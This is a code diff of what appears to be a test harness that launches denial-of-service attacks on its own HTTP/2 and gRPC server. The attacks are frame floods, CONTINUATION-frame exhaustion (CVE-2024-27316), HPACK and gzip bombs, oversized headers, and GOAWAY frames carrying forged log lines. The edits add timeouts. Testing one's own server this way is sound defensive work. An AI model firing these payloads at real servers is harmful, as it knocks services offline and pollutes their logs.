@@ -38,7 +38,7 @@ def flood(*frames: bytes) -> Callable[[Victim], None]:
     burst = b"".join(frames) * BURST
 
     def attack(victim: Victim) -> None:
-        with Peer(victim.port) as peer:
+        with Peer(victim.port, timeout=victim.seconds) as peer:
             peer.send(peer.head(GET)[1])
             end, sent = time.monotonic() + victim.seconds, 0
             while time.monotonic() < end and peer.send(burst):
@@ -70,7 +70,7 @@ def pings_unread(victim: Victim) -> None:
 
 def continuations(victim: Victim) -> None:
     """Opens a call with headers that never end: 1 KB in each CONTINUATION frame (CVE-2024-27316)."""
-    with Peer(victim.port) as peer:
+    with Peer(victim.port, timeout=victim.seconds) as peer:
         peer.send(frame(HEADERS, 0, 1, block(GET)))
         piece = b"\0" + text("x") + text("y" * 1000)
         end, sent = time.monotonic() + victim.seconds, 0
@@ -81,7 +81,7 @@ def continuations(victim: Victim) -> None:
 
 def empty_continuations(victim: Victim) -> None:
     """Opens a call with headers that never end: empty CONTINUATION frames."""
-    with Peer(victim.port) as peer:
+    with Peer(victim.port, timeout=victim.seconds) as peer:
         peer.send(frame(HEADERS, 0, 1, block(GET)))
         end, sent = time.monotonic() + victim.seconds, 0
         while time.monotonic() < end and peer.send(frame(CONTINUATION, 0, 1) * BURST):
@@ -91,7 +91,7 @@ def empty_continuations(victim: Victim) -> None:
 
 def hpack_bomb(victim: Victim) -> None:
     """Enters a header of 4,000 bytes into the table and names it 16,000 times in each call: 64 MB from 16 KB."""
-    with Peer(victim.port) as peer:
+    with Peer(victim.port, timeout=victim.seconds) as peer:
         enter = b"\x40" + text("x-bomb") + text("y" * 3900)
         peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, block(GET) + enter))
         bomb = block(GET) + b"\xbe" * 16_000
@@ -115,7 +115,7 @@ def hpack_tables(victim: Victim) -> None:
 
 def long_headers(victim: Victim) -> None:
     """Sends 1 MB of headers in each call; the server's limit is 16 KiB at most."""
-    with Peer(victim.port) as peer:
+    with Peer(victim.port, timeout=victim.seconds) as peer:
         many = block(GET, *((f"x-{number}", "v" * 1000) for number in range(1000)))
         end, sent = time.monotonic() + victim.seconds, 0
         for stream in range(1, 2**31, 2):
@@ -145,18 +145,19 @@ def gzip_bomb(victim: Victim) -> None:
     """Sends 1 MB that inflates to 1 GB, 20 times; the server's limit is 4 MiB of message."""
     bomb = gzip.compress(bytes(2**20 * victim.size(1000)), 9)
     with Peer(victim.port) as peer:
-        for _ in range(20):
+        count = victim.size(20)
+        for _ in range(count):
             peer.call(CREATE, b"", ("grpc-encoding", "gzip"))  # a first one, of nothing
             stream, head = peer.head(CREATE, ("grpc-encoding", "gzip"))
             peer.send(head + b"".join(data(stream, message(bomb, compressed=True))))
-        peer.wait(40, 15)
+        peer.wait(2 * count, 15)
         victim.note(bytes=len(bomb), codes=dict(peer.codes()))
 
 
 def goaways(victim: Victim) -> None:
     """Says goodbye over and over, with a text that looks like lines of the server's log."""
     forged = b"\n2026-01-01 00:00:00,000 ERROR artemis_server: forged by a caller\n" * 200
-    with Peer(victim.port) as peer:
+    with Peer(victim.port, timeout=victim.seconds) as peer:
         peer.send(peer.head(GET)[1])
         end, sent = time.monotonic() + victim.seconds, 0
         while time.monotonic() < end and peer.send(frame(GOAWAY, 0, 0, bytes(4) + (11).to_bytes(4, "big") + forged)):
